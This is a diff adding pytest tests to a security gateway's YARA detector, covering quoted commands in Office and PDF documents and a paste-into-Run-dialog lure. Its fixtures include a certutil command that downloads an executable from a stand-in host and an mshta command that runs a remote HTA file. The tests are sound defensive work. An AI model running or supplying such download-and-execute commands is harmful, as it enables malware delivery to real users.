@@ -10,7 +10,7 @@ import pytest
 from gateway.detect.base import Scope
 from gateway.detect.yara_rules import USUAL, YaraDetector, compile_rules, dump, kinds, packaged_rules, restore
 from gateway.model.artifact import Artifact, ArtifactKind
-from gateway.model.content import Sample, Text
+from gateway.model.content import Sample, Table, Text
 from gateway.model.errors import ConfigError
 from gateway.model.finding import Severity
 from gateway.model.transaction import Direction
@@ -133,3 +133,29 @@ def test_pages_in_wide_characters_are_scanned_as_their_markup():
 def test_words_in_older_charsets_are_scanned_as_read(charset, said):
     node = sample(said.encode(charset), "text/plain", "", ArtifactKind.PART, Text(said, "body", charset))
     assert [f.rule for f in look(node)] == ["run-dialog-command"]
+
+
+QUOTED = "The attacker ran: certutil -urlcache -split -f http://h.example/a.exe a.exe"
+
+
+@pytest.mark.parametrize("kind", ["application/x-ole-storage", "application/vnd.openxmlformats", "application/pdf"])
+def test_words_of_a_document_may_quote_commands(kind):
+    octets = b"\xd0\xcf\x11\xe0" + QUOTED.encode("utf-16-le")
+    rows = Table("sheet", (("a", QUOTED),))
+    assert look(sample(octets, kind, "a.doc", ArtifactKind.PART, Text(QUOTED, "body"))) == []
+    node = sample(octets, kind, "a.doc", ArtifactKind.PART)
+    node.tables.append(rows)
+    assert look(node) == []
+
+
+def test_what_nobody_reads_in_a_document_is_no_quotation():
+    octets = b"\xd0\xcf\x11\xe0" + QUOTED.encode("utf-16-le")
+    kind = "application/x-ole-storage"
+    for texts in ((), (Text("Hello", "body"),), (Text(QUOTED, "property", hidden=True),), (Text(QUOTED, "body"), Text(QUOTED, "property", hidden=True))):
+        assert {f.rule for f in look(sample(octets, kind, "a.doc", ArtifactKind.PART, *texts))} == {"certutil-abuse"}
+
+
+@pytest.mark.parametrize("kind", ["application/x-ole-storage", "application/vnd.openxmlformats", "application/pdf"])
+def test_documents_that_ask_for_a_command_to_be_pasted(kind):
+    said = Text("Press Windows+R, paste\n\n mshta https://h.example/r.hta\n\nand press Enter.", "body")
+    assert [f.rule for f in look(sample(b"PK", kind, "a.docx", ArtifactKind.PART, said))] == ["run-dialog-command"]
